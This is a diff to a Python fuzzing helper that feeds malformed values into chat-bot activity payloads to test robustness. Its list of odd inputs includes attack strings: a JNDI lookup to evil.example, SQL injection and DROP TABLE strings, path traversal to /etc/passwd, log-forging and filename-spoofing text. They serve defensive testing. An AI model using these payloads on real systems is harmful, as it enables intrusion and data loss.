@@ -3,6 +3,7 @@
 import json
 import random
 from collections.abc import Callable, MutableMapping, MutableSequence
+from copy import deepcopy
 from dataclasses import dataclass
 from typing import Any
 
@@ -12,12 +13,13 @@ ODD = (
     "", " ", "\x00", "a\x00b", "\x1b[31mred", "\r\nERROR root: forged", "\u202egnp.exe", "\u2066x", "\ud800", "x\udfff",
     "\ufeff", "\u2028", "e" + "\u0301" * 400, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50, "<at>Everyone</at>",
     "[click](https://evil.example)", "**x**", "{{DATE(2020-01-01T00:00:00Z)}}", "${jndi:ldap://evil.example}",
-    "' OR 1=1 --", "../../../../etc/passwd", "%00%0d%0a", "'; DROP TABLE runs; --", "\x7f\x80\x9b31m", "１２", "NaN",
+    "' OR 1=1 --", "../../../../etc/passwd", "%00%0d%0a", "'; DROP TABLE runs; --", "\x7f\x80\x9b31m", "NaN",
+    "\uff11\uff12",
     "room-1@contoso.com" * 40, "check " * 2_000, "\uffff", "0" * 400, "-1",
 )
 VALUES: tuple[Any, ...] = (
-    None, True, False, 0, -1, 1.5, 1e308, 2 ** 63, 10 ** 400, float("nan"), float("inf"), [], {}, [[]], [None], {"": ""},
-    {"id": 7}, {"id": {"id": "x"}}, [{"id": None}], "x" * 5_000, "9" * 70_000, list(range(2_000)),
+    None, True, False, 0, -1, 1.5, 1e308, 2 ** 63, 10 ** 400, float("nan"), float("inf"), [], {}, [[]], [None],
+    {"": ""}, {"id": 7}, {"id": {"id": "x"}}, [{"id": None}], "x" * 5_000, "9" * 70_000, list(range(2_000)),
     {f"k{number}": number for number in range(2_000)},
 )
 IDS = ("id", "conversation", "from", "recipient", "replyToId", "channelData", "serviceUrl", "tenantId", "aadObjectId",
@@ -61,7 +63,7 @@ def _places(value: Any) -> list[tuple[Any, Any]]:
 
 def _retyped(chance: random.Random, activity: Activity) -> None:
     holder, key = chance.choice(_places(activity))
-    holder[key] = chance.choice(VALUES)
+    holder[key] = deepcopy(chance.choice(VALUES))
 
 
 def _odd_text(chance: random.Random, activity: Activity) -> None:
@@ -108,10 +110,11 @@ def _forged(chance: random.Random, activity: Activity) -> None:
     payload = action.get("data") if isinstance(action, dict) else value
     if not isinstance(payload, dict):
         return
-    payload[chance.choice(("report", "run", "dialog_id", "alert", "offer", "room", "verb", "roomcheck", "more", "field.x",
-                           "copy.x", "choice", "rooms", "finding", "dialog"))] = chance.choice(
+    payload[chance.choice(("report", "run", "dialog_id", "alert", "offer", "room", "verb", "roomcheck", "more",
+                           "field.x", "copy.x", "choice", "rooms", "finding", "dialog"))] = chance.choice(
         ("r1-0", "d1", "../x", "check", "doctor", "1", 2, True, 1.0, None, ["x"] * 30, {"a": "b"}, "x" * 400,
-         "room-1@contoso.com", "collect_logs", "guided_fix", "pick_room", "watch_rooms", "room_of_upload", "file_offer"))
+         "room-1@contoso.com", "collect_logs", "guided_fix", "pick_room", "watch_rooms", "room_of_upload",
+         "file_offer"))
 
 
 def _unknown(chance: random.Random, activity: Activity) -> None:
